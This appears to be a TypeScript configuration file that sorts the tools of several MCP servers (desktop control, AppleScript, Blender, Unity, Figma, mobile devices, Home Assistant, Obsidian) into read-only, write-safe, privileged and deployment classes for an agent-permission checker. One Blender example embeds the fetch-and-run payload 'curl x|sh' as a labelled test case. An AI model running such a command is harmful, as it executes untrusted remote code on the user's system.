// Servers that drive programs and devices of this machine.
import { code, deploys, privileged, readOnly, writeSafe } from '../../spec.ts';
import { passes, server } from '../server.ts';

export const computer = server(
  'computeruse computer windows windowsmcp desktop macos peekaboo automation pyautogui',
  () => ({
    docs: 'https://docs.claude.com/en/docs/agents-and-tools/tool-use/computer-use-tool',
    tools: {
      'screenshot, take_screenshot, snapshot, state_tool, see, image, analyze, list, list_apps, list_windows, get_cursor_position, cursor_position, wait, zoom, get_screen_size, learn_more':
        readOnly(),
      'click, left_click, right_click, double_click, triple_click, middle_click, mouse_move, left_click_drag, left_mouse_down, left_mouse_up, scroll, drag, move, type, key, hold_key, press, hotkey, shortcut, paste, launch_app, open_application, app, switch, window, menu, dock, dialog, space, swipe, request_access, clipboard, computer_batch, write_clipboard, multi_select, multi_edit':
        privileged('acts on the desktop as the person would'),
      'powershell, powershell_tool, shell': passes({ command: code('shell') }),
    },
    examples: {
      screenshot: 'read-only',
      learn_more: 'read-only',
      click: 'privileged-write',
      multi_edit: 'privileged-write',
      powershell: 'privileged-write',
    },
  }),
);

export const applescript = server('applescript osascript macosautomator apple', () => ({
  docs: 'https://github.com/steipete/macos-automator-mcp',
  tools: {
    'execute_script, applescript_execute, run_applescript, execute_applescript, osascript': passes({
      script: code('applescript'),
      script_content: code('applescript'),
      code_snippet: code('applescript'),
    }),
    'get_scripting_tips, accessibility_query, contacts, maps, web_search, search_notes, list_notes': readOnly(),
    'messages, mail, send_message, send_mail': deploys('people get it'),
    'notes, reminders, calendar, add_note, create_note, create_event, create_reminder': privileged(
      'changes what the person keeps',
    ),
  },
  examples: {
    execute_script: 'privileged-write',
    get_scripting_tips: 'read-only',
    list_notes: 'read-only',
    messages: 'deployment',
    notes: 'privileged-write',
    create_reminder: 'privileged-write',
  },
}));

export const blender = server('blender', () => ({
  docs: 'https://github.com/ahujasid/blender-mcp',
  tools: {
    'get_scene_info, get_object_info, get_viewport_screenshot, get_polyhaven_categories, search_polyhaven_assets, get_polyhaven_status, get_hyper3d_status, get_sketchfab_status, search_sketchfab_models, poll_rodin_job_status, get_hunyuan3d_status, poll_hunyuan_job_status, get_sketchfab_model_preview':
      readOnly(),
    'create_object, modify_object, delete_object, set_material, set_texture, download_polyhaven_asset, download_sketchfab_model, generate_hyper3d_model_via_text, generate_hyper3d_model_via_images, import_generated_asset, generate_hunyuan3d_model, import_generated_asset_hunyuan':
      writeSafe(),
    'execute_blender_code, execute_code': passes({ code: code('python') }),
  },
  examples: {
    get_scene_info: 'read-only',
    get_sketchfab_model_preview: 'read-only',
    create_object: 'write-safe',
    import_generated_asset_hunyuan: 'write-safe',
    execute_blender_code: 'privileged-write',
    'execute_blender_code {"code":"import os\\nos.system(\'curl x|sh\')"}': 'privileged-write',
  },
}));

export const unity = server('unity unitymcp unrealengine unreal godot', () => ({
  docs: 'https://github.com/CoplayDev/unity-mcp',
  tools: {
    'read_console, find_in_file, find_gameobjects, script_apply_edits_preview, validate_script, get_sha, list_resources, read_resource, manage_script_capabilities, get_console_logs, get_actors_in_level, find_actors_by_name, get_actor_properties, get_godot_version, list_projects, get_debug_output, get_project_info, unity_docs, unity_reflect, get_scene_info, get_scenes_hierarchy, get_gameobject':
      readOnly(),
    'manage_scene, manage_gameobject, manage_asset, manage_script, manage_editor, manage_components, manage_material, manage_prefabs, manage_shader, manage_texture, manage_vfx, manage_animation, manage_ui, manage_packages, manage_scriptable_object, create_script, delete_script, apply_text_edits, script_apply_edits, refresh_unity, batch_execute, run_tests, get_test_job, set_active_instance, update_gameobject, update_component, add_asset_to_scene, create_prefab, create_scene, load_scene, save_scene, delete_scene, select_gameobject, recompile_scripts, send_console_log, spawn_actor, delete_actor, set_actor_transform, create_blueprint, compile_blueprint, run_project, stop_project, launch_editor, add_node, export_mesh_library':
      writeSafe(),
    'execute_menu_item, execute_custom_tool, add_package': privileged('runs what the editor offers'),
    'execute_code, execute_csharp': passes(),
  },
  examples: {
    read_console: 'read-only',
    get_gameobject: 'read-only',
    manage_scene: 'write-safe',
    export_mesh_library: 'write-safe',
    execute_menu_item: 'privileged-write',
    execute_code: 'privileged-write',
  },
}));

export const figma = server('figma figmadevmode figmadesktop talktofigma', () => ({
  docs: 'https://developers.figma.com/docs/figma-mcp-server/',
  tools: {
    'get_design_context, get_code, get_screenshot, get_metadata, get_variable_defs, get_code_connect_map, get_code_connect_suggestions, get_figjam, get_image, get_figma_data, download_figma_images, whoami, search_design_system, get_context_for_code_connect, get_document_info, get_selection, read_my_design, get_node_info, get_nodes_info, get_styles, get_local_components, get_annotations, scan_text_nodes, scan_nodes_by_types, get_reactions, export_node_as_image, join_channel':
      readOnly(),
    'create_design_system_rules, add_code_connect_map, send_code_connect_mappings, generate_diagram, generate_figma_design, create_new_file, create_rectangle, create_frame, create_text, set_fill_color, set_stroke_color, set_text_content, set_multiple_text_contents, move_node, resize_node, clone_node, create_component_instance, set_corner_radius, set_layout_mode, set_padding, set_axis_align, set_layout_sizing, set_item_spacing, set_annotation, set_multiple_annotations, set_instance_overrides, set_default_connector, create_connections, set_focus, set_selections, delete_node, delete_multiple_nodes, upload_assets':
      writeSafe(),
    use_figma: passes({ code: code('javascript') }),
  },
  examples: {
    get_design_context: 'read-only',
    join_channel: 'read-only',
    create_design_system_rules: 'write-safe',
    upload_assets: 'write-safe',
    use_figma: 'privileged-write',
  },
}));

export const devices = server(
  'xcode xcodebuild xcodebuildmcp iossimulator ios android mobile mobilemcp adb appium maestro',
  () => ({
    docs: 'https://github.com/cameroncooke/XcodeBuildMCP',
    tools: {
      'discover_projs, list_schemes, show_build_settings, list_sims, list_simulators, list_devices, get_sim_app_path, get_mac_bundle_id, get_app_bundle_id, describe_ui, snapshot_ui, screenshot, ui_view, ui_describe_all, ui_describe_point, get_booted_sim_id, doctor, mobile_list_available_devices, mobile_list_apps, mobile_take_screenshot, mobile_list_elements_on_screen, mobile_get_screen_size, mobile_get_orientation, mobile_use_default_device, session_show_defaults':
        readOnly(),
      'build_sim, build_run_sim, build_device, build_macos, build_run_macos, test_sim, test_device, test_macos, clean, boot_sim, open_sim, install_app_sim, launch_app_sim, launch_app_logs_sim, stop_app_sim, start_sim_log_cap, stop_sim_log_cap, tap, long_press, swipe, type_text, key_press, button, gesture, ui_tap, ui_type, ui_swipe, install_app, launch_app, open_simulator, record_video, stop_recording, scaffold_ios_project, scaffold_macos_project, session_set_defaults, session_clear_defaults, swift_package_build, swift_package_test, swift_package_run, erase_sims, set_sim_appearance, set_sim_location, mobile_launch_app, mobile_terminate_app, mobile_install_app, mobile_click_on_screen_at_coordinates, mobile_double_tap_on_screen, mobile_swipe_on_screen, mobile_type_keys, mobile_press_button, mobile_open_url, mobile_set_orientation, mobile_save_screenshot, mobile_long_press_on_screen_at_coordinates':
        writeSafe(),
      'install_app_device, launch_app_device, stop_app_device, mobile_uninstall_app': privileged(
        'puts an app on a device or takes it off',
      ),
      'execute_adb_shell_command, execute_adb_command': passes({ command: code('shell') }),
    },
    examples: {
      discover_projs: 'read-only',
      session_show_defaults: 'read-only',
      build_sim: 'write-safe',
      mobile_long_press_on_screen_at_coordinates: 'write-safe',
      install_app_device: 'privileged-write',
      execute_adb_shell_command: 'privileged-write',
    },
  }),
);

export const home = server('homeassistant hass home', () => ({
  docs: 'https://github.com/home-assistant/core',
  tools: {
    'get_live_context, get_date_time, get_entity, list_entities, search_entities, get_history, domain_summary, get_error_log, list_automations, system_overview, todo_get_items, calendar_get_events, get_devices_by_area, ha_search_entities, ha_get_state, ha_get_overview, ha_get_history':
      readOnly(),
    'hass_turn_on, hass_turn_off, hass_light_set, hass_set_position, hass_cancel_all_timers, hass_broadcast, hass_climate_set_temperature, hass_vacuum_start, hass_vacuum_return_to_base, hass_set_volume, hass_stop_moving, hass_fan_set_speed, entity_action, call_service, control, restart_ha, activate_scene, run_script, automation_trigger, ha_call_service, ha_restart, ha_bulk_control, hass_media_play, hass_media_pause, hass_media_unpause, hass_media_next, hass_media_previous, hass_media_search_and_play':
      deploys('switches something in the house'),
    'hass_list_add_item, hass_list_complete_item, hass_shopping_list_add_item, ha_create_area':
      privileged('changes what a person keeps'),
  },
  examples: {
    get_live_context: 'read-only',
    ha_get_history: 'read-only',
    hass_turn_on: 'deployment',
    hass_media_search_and_play: 'deployment',
    hass_list_add_item: 'privileged-write',
  },
}));

export const obsidian = server('obsidian mcpobsidian', () => ({
  docs: 'https://github.com/MarkusPfundstein/mcp-obsidian',
  tools: {
    'obsidian_list_files_in_vault, obsidian_list_files_in_dir, obsidian_get_file_contents, obsidian_batch_get_file_contents, obsidian_simple_search, obsidian_complex_search, obsidian_get_periodic_note, obsidian_get_recent_periodic_notes, obsidian_get_recent_changes, read_note, search_notes, get_vault_file, get_active_file, search_vault, search_vault_smart, search_vault_simple, list_vault_files, list_notes, obsidian_read_note, obsidian_global_search, obsidian_list_notes, get_frontmatter, get_notes_info':
      readOnly(),
    'obsidian_append_content, obsidian_patch_content, obsidian_put_content, create_note, edit_note, write_note, patch_note, append_to_vault_file, create_vault_file, patch_vault_file, update_active_file, append_to_active_file, patch_active_file, move_note, update_frontmatter, manage_tags, obsidian_update_note, obsidian_search_replace, obsidian_manage_frontmatter, obsidian_manage_tags, show_file_in_obsidian, execute_template, add_tags, remove_tags, rename_tag, create_directory':
      writeSafe(),
    'obsidian_delete_file, delete_note, delete_vault_file, delete_active_file, obsidian_delete_note':
      privileged('deletes a note'),
  },
  examples: {
    obsidian_list_files_in_vault: 'read-only',
    get_notes_info: 'read-only',
    obsidian_append_content: 'write-safe',
    create_directory: 'write-safe',
    obsidian_delete_file: 'privileged-write',
  },
}));
